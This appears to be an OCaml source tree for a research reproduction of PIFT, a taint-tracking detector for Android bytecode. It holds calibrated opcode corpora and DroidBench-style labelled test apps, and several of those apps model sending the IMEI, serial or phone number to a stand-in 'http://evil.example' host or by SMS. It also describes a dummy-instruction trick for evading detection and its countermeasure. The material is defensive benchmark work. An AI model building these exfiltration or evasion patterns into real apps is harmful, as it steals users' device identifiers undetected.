  | "add-int/lit8" -> B.Binop_lit8 (B.Add, v (), v (), Rng.int rng 100)
  | "xor-int/lit8" -> B.Binop_lit8 (B.Xor, v (), v (), Rng.int rng 100)
  | "add-int/2addr" -> B.Binop_2addr (B.Add, v (), v ())
  | "mul-int/2addr" -> B.Binop_2addr (B.Mul, v (), v ())
  | "sub-int" -> B.Binop (B.Sub, v (), v (), v ())
  | "div-int" -> B.Binop (B.Div, v (), v (), v ())
  | "neg-int" -> B.Neg_int (v (), v ())
  | "int-to-char" -> B.Int_to_char (v (), v ())
  | "int-to-byte" -> B.Int_to_byte (v (), v ())
  | "int-to-long" -> B.Int_to_long (v (), v ())
  | "long-to-int" -> B.Long_to_int (v (), v ())
  | "add-long" -> B.Add_long (v (), v (), v ())
  | "sub-long" -> B.Sub_long (v (), v (), v ())
  | "mul-long" -> B.Mul_long (v (), v (), v ())
  | "shr-long" -> B.Shr_long (v (), v (), v ())
  | "cmp-long" -> B.Cmp_long (v (), v (), v ())
  | "monitor-enter" -> B.Monitor_enter (v ())
  | "monitor-exit" -> B.Monitor_exit (v ())
  | "nop" -> B.Nop
  | other -> failwith ("Corpus.template: unknown opcode " ^ other)

(* Fig. 10(a): Google stock applications, top 30, in 1/10000 units. *)
let app_weights =
  [
    ("invoke-virtual", 1106); ("move-result-object", 898);
    ("iget-object", 710); ("const/4", 519); ("const-string", 485);
    ("invoke-static", 445); ("move-result", 442); ("invoke-direct", 431);
    ("return-void", 319); ("goto", 310); ("invoke-interface", 304);
    ("const/16", 282); ("if-eqz", 282); ("return-object", 279);
    ("aput-object", 250); ("new-instance", 236); ("iput-object", 197);
    ("move-object/from16", 184); ("return", 168); ("iget", 146);
    ("if-nez", 140); ("check-cast", 131); ("sget-object", 109);
    ("add-int/lit8", 80); ("iput", 74); ("move", 68); ("move/from16", 65);
    ("throw", 64); ("const", 60); ("move-object", 53);
  ]

(* Fig. 10(b): Android system libraries, top 30. *)
let lib_weights =
  [
    ("invoke-virtual", 1257); ("iget-object", 751);
    ("move-result-object", 746); ("const/4", 564); ("invoke-direct", 457);
    ("move-result", 416); ("const-string", 384); ("invoke-static", 359);
    ("goto", 330); ("if-eqz", 326); ("move-object/from16", 322);
    ("return-void", 283); ("iget", 260); ("new-instance", 257);
    ("iput-object", 176); ("if-nez", 161); ("invoke-interface", 157);
    ("const/16", 150); ("return-object", 144); ("throw", 130);
    ("iput", 127); ("return", 117); ("move/from16", 113);
    ("move-exception", 112); ("add-int/lit8", 96); ("check-cast", 95);
    ("sget-object", 91); ("monitor-exit", 82);
    ("invoke-virtual/range", 74); ("move", 74);
  ]

(* Long-tail opcodes carrying the mass outside the top 30. *)
let tail_weights =
  [
    ("aget", 110); ("aput", 100); ("aget-object", 90); ("aget-char", 40);
    ("aput-char", 40); ("new-array", 70); ("array-length", 65);
    ("if-lt", 60); ("packed-switch", 45); ("move-exception", 40);
    ("sput", 40); ("sget", 40); ("sput-object", 30);
    ("xor-int/lit8", 35); ("add-int/2addr", 55); ("mul-int/2addr", 35);
    ("sub-int", 30); ("div-int", 18); ("neg-int", 14);
    ("int-to-char", 25); ("int-to-byte", 15); ("int-to-long", 22);
    ("long-to-int", 18); ("add-long", 16); ("sub-long", 12);
    ("mul-long", 8); ("shr-long", 7); ("cmp-long", 16);
    ("monitor-enter", 34); ("monitor-exit", 20); ("move-wide", 28);
    ("instance-of", 26); ("iget-wide", 20); ("nop", 12);
  ]

let merge base tail =
  let tbl = Hashtbl.create 64 in
  List.iter (fun (k, w) -> Hashtbl.replace tbl k w) tail;
  List.iter
    (fun (k, w) ->
      let extra = Option.value ~default:0 (Hashtbl.find_opt tbl k) in
      Hashtbl.replace tbl k (w + extra))
    base;
  Hashtbl.fold (fun k w acc -> (k, w) :: acc) tbl []

let sampler weights =
  let total = List.fold_left (fun acc (_, w) -> acc + w) 0 weights in
  fun rng ->
    let x = Rng.int rng total in
    let rec pick acc = function
      | [] -> fst (List.hd weights)
      | (k, w) :: rest -> if x < acc + w then k else pick (acc + w) rest
    in
    pick 0 weights

let method_len = 40
let methods_per_program = 60

let gen_program ~index ~prefix ~sample rng =
  let gen_method i =
    let name = Printf.sprintf "%s%d.m%d" prefix index i in
    let last = method_len - 1 in
    let body =
      List.init (method_len - 1) (fun _ -> template rng ~last (sample rng))
    in
    Method.make ~name ~registers:8 ~ins:0 (body @ [ B.Return_void ])
  in
  let methods = List.init methods_per_program gen_method in
  Program.make
    ~classes:[ ("Lib", [ "f0"; "f1"; "f2"; "f3" ]) ]
    ~entry:(Printf.sprintf "%s%d.m0" prefix index)
    methods

let generate ~seed ~prefix ~weights ~lines =
  let rng = Rng.create seed in
  let sample = sampler weights in
  let per_program = method_len * methods_per_program in
  let programs = max 1 (lines / per_program) in
  List.init programs (fun index -> gen_program ~index ~prefix ~sample rng)

let applications ?(lines = 120_000) () =
  generate ~seed:0xA991 ~prefix:"App" ~weights:(merge app_weights tail_weights)
    ~lines

let system_libraries ?(lines = 130_000) () =
  generate ~seed:0x51B5 ~prefix:"Sys"
    ~weights:(merge lib_weights tail_weights)
    ~lines
