(* Field-, object- and lifecycle-sensitivity cases: flows through instance
   fields, statics, and components whose callbacks run in sequence. *)

module B = Pift_dalvik.Bytecode
open Dsl

let app = App.make
let holder = ("DataHolder", [ "secret"; "pub" ])

(* Taint stored in one field, the *other* field is sent. *)
let field_sensitivity1 =
  app ~name:"FieldSensitivity1" ~category:"FieldAndObjectSensitivity"
    ~leaky:false (fun () ->
      prog ~classes:[ holder ]
        [
          meth ~name:"main" ~registers:7 ~ins:0
            (imei 0
            @ [ B.New_instance (1, "DataHolder") ]
            @ [ B.Iput_object (0, 1, "secret") ]
            @ [ lit 2 "clean"; B.Iput_object (2, 1, "pub") ]
            @ [ B.Iget_object (3, 1, "pub") ]
            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
        ])

(* Same shape, but the tainted field is sent (reference flow: caught at
   any window size). *)
let field_sensitivity2 =
  app ~name:"FieldSensitivity2" ~category:"FieldAndObjectSensitivity"
    ~leaky:true (fun () ->
      prog ~classes:[ holder ]
        [
          meth ~name:"main" ~registers:7 ~ins:0
            (imei 0
            @ [ B.New_instance (1, "DataHolder") ]
            @ [ B.Iput_object (0, 1, "secret") ]
            @ [ lit 2 "clean"; B.Iput_object (2, 1, "pub") ]
            @ [ B.Iget_object (3, 1, "secret") ]
            @ [ lit 4 "5554"; send_sms ~dest:4 ~msg:3; B.Return_void ]);
        ])

let object_sensitivity1 =
  app ~name:"ObjectSensitivity1" ~category:"FieldAndObjectSensitivity"
    ~leaky:false (fun () ->
      prog ~classes:[ holder ]
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (imei 0
            @ [ B.New_instance (1, "DataHolder");
                B.New_instance (2, "DataHolder") ]
            @ [ B.Iput_object (0, 1, "secret") ]
            @ [ lit 3 "benign"; B.Iput_object (3, 2, "secret") ]
            @ [ B.Iget_object (4, 2, "secret") ]
            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
        ])

let object_sensitivity2 =
  app ~name:"ObjectSensitivity2" ~category:"FieldAndObjectSensitivity"
    ~leaky:true (fun () ->
      prog ~classes:[ holder ]
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (imei 0
            @ [ B.New_instance (1, "DataHolder");
                B.New_instance (2, "DataHolder") ]
            @ [ B.Iput_object (0, 1, "secret") ]
            @ [ lit 3 "benign"; B.Iput_object (3, 2, "secret") ]
            @ [ B.Iget_object (4, 1, "secret") ]
            @ [ lit 5 "5554"; send_sms ~dest:5 ~msg:4; B.Return_void ]);
        ])

(* Static initialiser stores the IMEI before main's body runs. *)
let static_initialization1 =
  app ~name:"StaticInitialization1" ~category:"GeneralJava" ~leaky:true
    (fun () ->
      prog
        [
          meth ~name:"clinit" ~registers:2 ~ins:0
            (imei 0 @ [ B.Sput_object (0, "Main.id"); B.Return_void ]);
          meth ~name:"main" ~registers:4 ~ins:0
            [
              call0 "clinit";
              B.Sget_object (0, "Main.id");
              lit 1 "http://evil.example";
              http ~url:1 ~body:0;
              B.Return_void;
            ];
        ])

(* Primitive data through a static field: charAt (3) -> sput (2) ->
   sget (3) -> StringBuilder.  Outside the Fig. 11 subset. *)
let static_field2 =
  app ~name:"StaticField2" ~category:"GeneralJava" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (imei 0
            @ [ B.Const4 (1, 3) ]
            @ [ call "String.charAt" [ 0; 1 ]; B.Move_result 2 ]
            @ [ B.Sput (2, "Main.c") ]
            @ [ B.Sget (3, "Main.c") ]
            @ sb_new ~dst:4
            @ [ call "StringBuilder.appendChar" [ 4; 3 ];
                B.Move_result_object 4 ]
            @ sb_to_string ~dst:5 ~sb:4
            @ [ lit 6 "5554"; send_sms ~dest:6 ~msg:5; B.Return_void ]);
        ])

(* Source in onCreate, sink in onResume — the callback sequence a real
   activity would see. *)
let activity_lifecycle1 =
  app ~name:"ActivityLifecycle1" ~category:"Lifecycle" ~leaky:true
    (fun () ->
      prog
        [
          meth ~name:"Activity.onCreate" ~registers:2 ~ins:0
            (imei 0 @ [ B.Sput_object (0, "Activity.id"); B.Return_void ]);
          meth ~name:"Activity.onResume" ~registers:3 ~ins:0
            [
              B.Sget_object (0, "Activity.id");
              lit 1 "5554";
              send_sms ~dest:1 ~msg:0;
              B.Return_void;
            ];
          meth ~name:"main" ~registers:1 ~ins:0
            [
              call0 "Activity.onCreate";
              call0 "Activity.onResume";
              B.Return_void;
            ];
        ])

(* Primitive data through an instance field across callbacks: the
   iput (4) / iget (5) hops need NI >= 5. *)
let activity_lifecycle2 =
  app ~name:"ActivityLifecycle2" ~category:"Lifecycle" ~leaky:true
    (fun () ->
      prog
        ~classes:[ ("State", [ "code" ]) ]
        [
          meth ~name:"Activity.onPause" ~registers:5 ~ins:1
            (imei 0
            @ [ B.Const4 (1, 5) ]
            @ [ call "String.charAt" [ 0; 1 ]; B.Move_result 2 ]
            @ [ B.Iput (2, 4, "code"); B.Return_void ]);
          meth ~name:"Activity.onDestroy" ~registers:7 ~ins:1
            ([ B.Iget (0, 6, "code") ]
            @ sb_new ~dst:1
            @ [ call "StringBuilder.appendChar" [ 1; 0 ];
                B.Move_result_object 1 ]
            @ sb_to_string ~dst:2 ~sb:1
            @ [ lit 3 "TAG"; log ~tag:3 ~msg:2; B.Return_void ]);
          meth ~name:"main" ~registers:2 ~ins:0
            [
              B.New_instance (0, "State");
              B.Invoke (B.Static, "Activity.onPause", [ 0 ]);
              B.Invoke (B.Static, "Activity.onDestroy", [ 0 ]);
              B.Return_void;
            ];
        ])

(* The tainted static slot is overwritten with a constant before the
   sink: exact tracking says clean; PIFT must untaint. *)
let lifecycle_clear1 =
  app ~name:"LifecycleClear1" ~category:"Lifecycle" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (B.Const4 (1, 2));
                  I (call "String.charAt" [ 0; 1 ]);
                  I (B.Move_result 2);
                  I (B.Sput (2, "Main.c"));
                ]
               @ window_gap 8
               @ clean_loop ~counter:4 ~bound:5 ~iterations:30
               @ [
                   I (B.Const16 (3, 88));
                   I (B.Sput (3, "Main.c"));
                   I (B.Sget (6, "Main.c"));
                   Is (int_to_string ~dst:7 6);
                   I (lit 1 "TAG");
                   I (log ~tag:1 ~msg:7);
                   I B.Return_void;
                 ]));
        ])

let service_lifecycle1 =
  app ~name:"ServiceLifecycle1" ~category:"Lifecycle" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"Service.onStartCommand" ~registers:2 ~ins:0
            (serial 0 @ [ B.Sput_object (0, "Service.data"); B.Return_void ]);
          meth ~name:"Service.onDestroy" ~registers:3 ~ins:0
            [
              B.Sget_object (0, "Service.data");
              lit 1 "http://evil.example";
              http ~url:1 ~body:0;
              B.Return_void;
            ];
          meth ~name:"main" ~registers:1 ~ins:0
            [
              call0 "Service.onStartCommand";
              call0 "Service.onDestroy";
              B.Return_void;
            ];
        ])

(* A "password"-style string exfiltrated as bytes over a stream.
   Outside the subset. *)
let private_data_leak1 =
  app ~name:"PrivateDataLeak1" ~category:"AndroidSpecific" ~leaky:true
    ~subset48:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:4 ~ins:0
            (phone_number 0
            @ [ call "String.toUpperCase" [ 0 ]; B.Move_result_object 1 ]
            @ [ call "String.getBytes" [ 1 ]; B.Move_result_object 2 ]
            @ [ call "OutputStream.write" [ 2 ]; B.Return_void ]);
        ])

let all : App.t list =
  [
    field_sensitivity1;
    field_sensitivity2;
    object_sensitivity1;
    object_sensitivity2;
    static_initialization1;
    static_field2;
    activity_lifecycle1;
    activity_lifecycle2;
    lifecycle_clear1;
    service_lifecycle1;
    private_data_leak1;
  ]
