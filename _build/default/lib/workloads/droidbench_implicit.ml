(* Implicit (control-flow) leaks — §4.2 of the paper.

   ImplicitFlow1 is the DroidBench case the paper explicitly discusses:
   a switch-based character substitution.  PIFT catches it *despite* not
   tracking control flow, because the constant store in each case arm
   lands a handful of instructions after the tainted comparison load.

   ImplicitFlow2 is the one false negative at the paper's (13,3)
   operating point: the comparison and the dependent store are separated
   by enough clean control flow (two never-taken tests here) that the
   store sits exactly 18 instructions after the last tainted load — only
   a window of NI >= 18 connects them. *)

module B = Pift_dalvik.Bytecode
open Dsl

let app = App.make

(* switch (c) { case '0': r='a'; ... } per character. *)
let implicit_flow1 =
  app ~name:"ImplicitFlow1" ~category:"ImplicitFlows" ~leaky:true (fun () ->
      let cases =
        List.init 10 (fun d -> (48 + d, Printf.sprintf "case%d" d))
      in
      let arms =
        List.concat
          (List.init 10 (fun d ->
               [
                 L (Printf.sprintf "case%d" d);
                 I (B.Const16 (6, 97 + d));
                 Goto_l "store";
               ]))
      in
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                  I (call "String.getChars" [ 0; 2 ]);
                  I (B.New_array (3, 1, "char[]"));
                  I (B.Const4 (4, 0));
                  L "head";
                  If_l (B.Ge, 4, 1, "done");
                  I (B.Aget_char (5, 2, 4));
                  Switch_l (5, cases, "default");
                  L "default";
                  I (B.Const16 (6, 63));
                  Goto_l "store";
                ]
               @ arms
               @ [
                   L "store";
                   I (B.Aput_char (6, 3, 4));
                   I (B.Binop_lit8 (B.Add, 4, 4, 1));
                   Goto_l "head";
                   L "done";
                   I (call "String.fromChars" [ 3 ]);
                   I (B.Move_result_object 7);
                   I (lit 8 "5554");
                   I (send_sms ~dest:8 ~msg:7);
                   I B.Return_void;
                 ]));
        ])

(* One character, compared digit by digit; the matching arm delays the
   constant store behind two never-taken clean tests so it falls exactly
   18 instructions after the last tainted load. *)
let implicit_flow2 =
  app ~name:"ImplicitFlow2" ~category:"ImplicitFlows" ~leaky:true (fun () ->
      let arm d =
        [
          L (Printf.sprintf "case%d" d);
          (* v8 is always 1: two clean never-taken tests as delay *)
          Ifz_l (B.Eq, 8, "never");
          Ifz_l (B.Eq, 8, "never");
          I (B.Const16 (6, 97 + d));
          Goto_l "store";
        ]
      in
      let dispatch =
        List.concat
          (List.init 10 (fun d ->
               [
                 (* t = c - '0' - d accumulated by repeated decrement *)
                 Ifz_l (B.Eq, 5, Printf.sprintf "case%d" d);
                 I (B.Binop_lit8 (B.Sub, 5, 5, 1));
               ]))
      in
      prog
        [
          meth ~name:"main" ~registers:12 ~ins:0
            (body
               ([
                  Is (imei 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  (* both arrays allocated before the tainted copy so
                     their reference slots stay clean *)
                  I (B.New_array (2, 1, "char[]"));
                  I (B.New_array (3, 1, "char[]"));
                  I (B.Const4 (4, 0));
                  I (B.Const4 (8, 1));
                  I (call "String.getChars" [ 0; 2 ]);
                ]
               @ window_gap 8
               @ [
                  L "head";
                  If_l (B.Ge, 4, 1, "done");
                  I (B.Aget_char (5, 2, 4));
                  I (B.Binop_lit8 (B.Sub, 5, 5, 48));
                ]
               @ dispatch
               @ [ L "never"; I (B.Const16 (6, 63)); Goto_l "store" ]
               @ List.concat (List.init 10 arm)
               @ [
                   L "store";
                   I (B.Aput_char (6, 3, 4));
                   I (B.Binop_lit8 (B.Add, 4, 4, 1));
                   Goto_l "head";
                   L "done";
                   I (call "String.fromChars" [ 3 ]);
                   I (B.Move_result_object 7);
                   I (lit 9 "5554");
                   I (send_sms ~dest:9 ~msg:7);
                   I B.Return_void;
                 ]));
        ])

let all : App.t list = [ implicit_flow1; implicit_flow2 ]
