(** The DroidBench-like benchmark suite (paper §5): 57 labelled apps —
    41 leaky, 16 benign — across the DroidBench 1.1 categories, with a
    48-app subset ([subset48]) used for the Fig. 11 accuracy heatmap.

    Detection-difficulty bands (engineered via the bytecode patterns each
    app uses, see the per-file comments):
    - reference/short-copy flows: caught by tiny windows,
    - StringBuilder flows: need NT >= 2,
    - field/long/transform loops: need NI in 5–8,
    - GPS via decimal conversion: needs NI >= 10,
    - one hard implicit flow: needs NI >= 18 (the paper's 2%% FN). *)

val all : App.t list
(** All 57 apps. *)

val subset48 : App.t list
(** The Fig. 11 heatmap subset (32 leaky + 16 benign). *)

val leaky : App.t list
val benign : App.t list
val find : string -> App.t option
