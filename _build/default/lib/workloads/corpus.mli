(** Synthetic dex corpora for the Fig. 10 static-frequency study.

    The paper counts bytecode frequencies over the dex files of Google
    stock applications (1.2M lines) and the Android system libraries
    (1.3M lines).  Those dex files are not available here, so we generate
    corpora whose opcode mix is calibrated to the paper's published
    top-30 frequencies (Fig. 10a/b); the residual mass is spread over the
    remaining opcodes.  The corpora are static artefacts — they are
    analysed, never executed. *)

val applications : ?lines:int -> unit -> Pift_dalvik.Program.t list
(** Calibrated to Fig. 10(a).  [lines] defaults to 120_000 bytecodes
    (1/10 of the paper's corpus). *)

val system_libraries : ?lines:int -> unit -> Pift_dalvik.Program.t list
(** Calibrated to Fig. 10(b); default 130_000 bytecodes. *)
