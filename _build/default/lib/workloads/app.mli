(** A test application: a labelled Dalvik program.

    Mirrors a DroidBench case: the [leaky] flag is the ground-truth label
    ("does sensitive data reach a sink on this execution"), [category] the
    DroidBench folder, and [subset48] marks membership in the 48-app
    subset used for the Fig. 11 accuracy heatmap. *)

type t = {
  name : string;
  category : string;
  leaky : bool;
  subset48 : bool;
  program : unit -> Pift_dalvik.Program.t;
  natives : (string * Pift_runtime.Env.native) list;
      (** extra natives beyond {!Pift_runtime.Api.registry} *)
}

val make :
  ?subset48:bool ->
  ?natives:(string * Pift_runtime.Env.native) list ->
  name:string ->
  category:string ->
  leaky:bool ->
  (unit -> Pift_dalvik.Program.t) ->
  t
