lib/workloads/dsl.mli: Pift_dalvik
