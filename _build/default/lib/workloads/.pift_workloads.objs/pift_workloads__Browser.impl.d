lib/workloads/browser.ml: App Dsl Pift_dalvik
