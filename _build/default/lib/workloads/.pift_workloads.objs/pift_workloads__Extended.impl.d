lib/workloads/extended.ml: App Dsl List Pift_dalvik Printf String
