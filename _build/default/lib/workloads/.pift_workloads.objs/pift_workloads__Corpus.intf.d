lib/workloads/corpus.mli: Pift_dalvik
