lib/workloads/droidbench_implicit.ml: App Dsl List Pift_dalvik Printf
