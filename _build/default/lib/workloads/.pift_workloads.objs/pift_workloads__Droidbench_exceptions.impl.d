lib/workloads/droidbench_exceptions.ml: App Dsl Pift_dalvik
