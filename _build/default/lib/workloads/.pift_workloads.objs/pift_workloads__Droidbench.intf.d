lib/workloads/droidbench.mli: App
