lib/workloads/evasion.ml: App Array Dsl Pift_arm Pift_dalvik Pift_machine Pift_runtime
