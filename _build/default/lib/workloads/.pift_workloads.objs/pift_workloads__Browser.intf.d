lib/workloads/browser.mli: App
