lib/workloads/droidbench_general.ml: App Dsl Pift_dalvik
