lib/workloads/droidbench_components.ml: App Dsl Pift_dalvik
