lib/workloads/extended.mli: App
