lib/workloads/droidbench_fields.ml: App Dsl Pift_dalvik
