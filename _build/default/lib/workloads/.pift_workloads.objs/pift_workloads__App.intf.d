lib/workloads/app.mli: Pift_dalvik Pift_runtime
