lib/workloads/droidbench_arrays.ml: App Dsl Pift_dalvik
