lib/workloads/dsl.ml: Hashtbl List Pift_dalvik Printf
