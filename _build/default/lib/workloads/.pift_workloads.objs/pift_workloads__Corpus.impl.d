lib/workloads/corpus.ml: Hashtbl List Option Pift_dalvik Pift_util Printf
