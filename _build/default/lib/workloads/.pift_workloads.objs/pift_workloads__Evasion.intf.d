lib/workloads/evasion.mli: App
