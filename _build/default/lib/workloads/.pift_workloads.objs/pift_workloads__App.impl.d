lib/workloads/app.ml: Pift_dalvik Pift_runtime
