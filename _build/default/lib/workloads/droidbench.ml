let all : App.t list =
  Droidbench_general.all @ Droidbench_fields.all @ Droidbench_arrays.all
  @ Droidbench_components.all @ Droidbench_exceptions.all
  @ Droidbench_implicit.all

let subset48 = List.filter (fun (a : App.t) -> a.App.subset48) all
let leaky = List.filter (fun (a : App.t) -> a.App.leaky) all
let benign = List.filter (fun (a : App.t) -> not a.App.leaky) all

let find name =
  List.find_opt (fun (a : App.t) -> String.equal a.App.name name) all
