type t = {
  name : string;
  category : string;
  leaky : bool;
  subset48 : bool;
  program : unit -> Pift_dalvik.Program.t;
  natives : (string * Pift_runtime.Env.native) list;
}

let make ?(subset48 = true) ?(natives = []) ~name ~category ~leaky program =
  { name; category; leaky; subset48; program; natives }
