(* Exception-driven flows. *)

module B = Pift_dalvik.Bytecode
module Method = Pift_dalvik.Method
open Dsl

let app = App.make
let exc = ("LeakException", [ "payload" ])

(* The reference survives the throw; the handler sends it. *)
let exceptions1 =
  app ~name:"Exceptions1" ~category:"Exceptions" ~leaky:true (fun () ->
      prog ~classes:[ exc ]
        [
          meth ~name:"main" ~registers:7 ~ins:0
            ~handlers:[ { Method.try_start = 2; try_end = 5; target = 5 } ]
            (imei 0
            (* pc 2..4: try block *)
            @ [ B.New_instance (1, "LeakException"); B.Throw 1;
                B.Return_void ]
            (* pc 5: handler *)
            @ [ B.Move_exception 2 ]
            @ [ lit 3 "5554"; send_sms ~dest:3 ~msg:0; B.Return_void ]);
        ])

(* The exception object carries a char of the IMEI in a field:
   iput (4) before the throw, iget (5) in the handler — needs NI >= 5. *)
let exceptions2 =
  app ~name:"Exceptions2" ~category:"Exceptions" ~leaky:true (fun () ->
      prog ~classes:[ exc ]
        [
          meth ~name:"main" ~registers:10 ~ins:0
            ~handlers:[ { Method.try_start = 7; try_end = 9; target = 9 } ]
            (imei 0
            @ [ B.Const4 (1, 4) ]
            @ [ call "String.charAt" [ 0; 1 ]; B.Move_result 2 ]
            @ [ B.New_instance (3, "LeakException") ]
            (* pc 6 *)
            @ [ B.Iput (2, 3, "payload") ]
            (* pc 7..8: try *)
            @ [ B.Throw 3; B.Return_void ]
            (* pc 9: handler *)
            @ [ B.Move_exception 4; B.Iget (5, 4, "payload") ]
            @ sb_new ~dst:6
            @ [ call "StringBuilder.appendChar" [ 6; 5 ];
                B.Move_result_object 6 ]
            @ sb_to_string ~dst:7 ~sb:6
            @ [ lit 8 "TAG"; log ~tag:8 ~msg:7; B.Return_void ]);
        ])

(* The throwing branch is never taken, so the leaking handler is dead. *)
let exceptions3 =
  app ~name:"Exceptions3" ~category:"Exceptions" ~leaky:false (fun () ->
      prog ~classes:[ exc ]
        [
          meth ~name:"main" ~registers:8 ~ins:0
            ~handlers:[ { Method.try_start = 4; try_end = 6; target = 11 } ]
            (body
               [
                 Is (imei 0);
                 I (B.Const4 (1, 0));
                 (* pc 2 *)
                 Ifz_l (B.Eq, 1, "safe");
                 (* try: never reached *)
                 I (B.New_instance (2, "LeakException"));
                 I (B.Throw 2);
                 I B.Return_void;
                 L "safe";
                 I (lit 3 "ok");
                 I (lit 4 "TAG");
                 I (log ~tag:4 ~msg:3);
                 I B.Return_void;
                 (* handler *)
                 L "handler";
                 I (B.Move_exception 5);
                 I (lit 6 "5554");
                 I (send_sms ~dest:6 ~msg:0);
                 I B.Return_void;
               ]);
        ])

let all : App.t list = [ exceptions1; exceptions2; exceptions3 ]
