(** The §4.2 native-code obfuscation attack, and the §7 compiler
    countermeasure, as runnable workloads.

    [attack] passes the IMEI to a "JNI" routine that loads each character,
    executes a long block of dummy computation, and only then stores it —
    stretching the load→store distance past any reasonable window, so
    PIFT misses the leak (the full-DIFT oracle still sees it).

    [hardened] is the same application run on a runtime whose native
    fragments go through {!Pift_arm.Scrubber} first: the dummy block is
    dead code, the pass removes it, the distance collapses to 1, and PIFT
    catches the leak again. *)

val attack : App.t
val hardened : App.t

val attack_live : App.t
(** Variant whose dummy block is {e live} (its accumulator is stored), so
    dead-code elimination cannot strip it; {!hardened_live} defeats it
    with {!Pift_arm.Scrubber.relocate_stores} instead. *)

val hardened_live : App.t
val all : App.t list
(** [attack; hardened; attack_live; hardened_live]. *)

val dummy_block_length : int
(** Number of dummy instructions the attack inserts between each load and
    store (24 — beyond the paper's largest evaluated window). *)
