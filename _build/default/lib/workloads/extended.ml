module B = Pift_dalvik.Bytecode
open Dsl

let app = App.make ~subset48:false

(* Producer/consumer handoff through a shared static buffer — the
   cross-thread pattern (threads serialise through shared memory; our
   single-CPU machine runs them back-to-back, which is the memory-visible
   schedule). *)
let thread_handoff1 =
  app ~name:"ThreadHandoff1" ~category:"Threading" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"Producer.run" ~registers:6 ~ins:0
            (imei 0
            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
            @ [ B.New_array (2, 1, "char[]") ]
            @ [ call "String.getChars" [ 0; 2 ] ]
            @ [ B.Sput_object (2, "Shared.buffer"); B.Return_void ]);
          meth ~name:"Consumer.run" ~registers:5 ~ins:0
            [
              B.Sget_object (0, "Shared.buffer");
              call "String.fromChars" [ 0 ];
              B.Move_result_object 1;
              lit 2 "5554";
              send_sms ~dest:2 ~msg:1;
              B.Return_void;
            ];
          meth ~name:"main" ~registers:1 ~ins:0
            [ call0 "Producer.run"; call0 "Consumer.run"; B.Return_void ];
        ])

(* Same handoff shape, but the consumer reads a different buffer. *)
let thread_handoff2 =
  app ~name:"ThreadHandoff2" ~category:"Threading" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"Producer.run" ~registers:6 ~ins:0
            (imei 0
            @ [ call "String.length" [ 0 ]; B.Move_result 1 ]
            @ [ B.New_array (2, 1, "char[]") ]
            @ [ call "String.getChars" [ 0; 2 ] ]
            @ [ B.Sput_object (2, "Shared.secret"); B.Return_void ]);
          meth ~name:"Consumer.run" ~registers:6 ~ins:0
            (body
               ([
                  I (lit 0 "public data");
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                ]
               @ window_gap 8
               @ [
                   I (call "String.getChars" [ 0; 2 ]);
                   I (B.Sput_object (2, "Shared.public"));
                   I (B.Sget_object (3, "Shared.public"));
                   I (call "String.fromChars" [ 3 ]);
                   I (B.Move_result_object 4);
                   I (lit 5 "5554");
                   I (send_sms ~dest:5 ~msg:4);
                   I B.Return_void;
                 ]));
          meth ~name:"main" ~registers:1 ~ins:0
            [ call0 "Producer.run"; call0 "Consumer.run"; B.Return_void ];
        ])

(* Clipboard-style reference handoff between components. *)
let clipboard1 =
  app ~name:"Clipboard1" ~category:"InterComponentCommunication"
    ~leaky:true (fun () ->
      prog
        [
          meth ~name:"Copier.copy" ~registers:2 ~ins:0
            (serial 0
            @ [ B.Sput_object (0, "Clipboard.content"); B.Return_void ]);
          meth ~name:"Paster.paste" ~registers:3 ~ins:0
            [
              B.Sget_object (0, "Clipboard.content");
              lit 1 "http://evil.example";
              http ~url:1 ~body:0;
              B.Return_void;
            ];
          meth ~name:"main" ~registers:1 ~ins:0
            [ call0 "Copier.copy"; call0 "Paster.paste"; B.Return_void ];
        ])

(* Persistence round trip: the value is written into a "preferences"
   char buffer (real copy), read back later (real copy), and sent.  Taint
   must survive the storage round trip. *)
let shared_prefs1 =
  app ~name:"SharedPrefs1" ~category:"Persistence" ~leaky:true (fun () ->
      prog
        [
          meth ~name:"main" ~registers:8 ~ins:0
            (body
               ([
                  Is (phone_number 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                  I (call "String.getChars" [ 0; 2 ]);
                  I (B.Sput_object (2, "Prefs.number"));
                ]
               (* "later": a separate phase of the app *)
               @ clean_loop ~counter:4 ~bound:5 ~iterations:30
               @ [
                   I (B.Sget_object (3, "Prefs.number"));
                   I (call "String.fromChars" [ 3 ]);
                   I (B.Move_result_object 6);
                   I (lit 7 "http://sync.example");
                   I (http ~url:7 ~body:6);
                   I B.Return_void;
                 ]));
        ])

(* The stored preference is reset to a default before being read back. *)
let shared_prefs2 =
  app ~name:"SharedPrefs2" ~category:"Persistence" ~leaky:false (fun () ->
      prog
        [
          meth ~name:"main" ~registers:10 ~ins:0
            (body
               ([
                  Is (phone_number 0);
                  I (call "String.length" [ 0 ]);
                  I (B.Move_result 1);
                  I (B.New_array (2, 1, "char[]"));
                  I (call "String.getChars" [ 0; 2 ]);
                  I (B.Sput_object (2, "Prefs.number"));
                ]
               @ window_gap 8
               @ [
                   (* factory reset: overwrite with a default of the same
                      length *)
                   I (lit 3 "00000000000");
                   I (call "String.getChars" [ 3; 2 ]);
                 ]
               @ clean_loop ~counter:4 ~bound:5 ~iterations:30
               @ [
                   I (B.Sget_object (5, "Prefs.number"));
                   I (call "String.fromChars" [ 5 ]);
                   I (B.Move_result_object 6);
                   I (lit 7 "http://sync.example");
                   I (http ~url:7 ~body:6);
                   I B.Return_void;
                 ]));
        ])

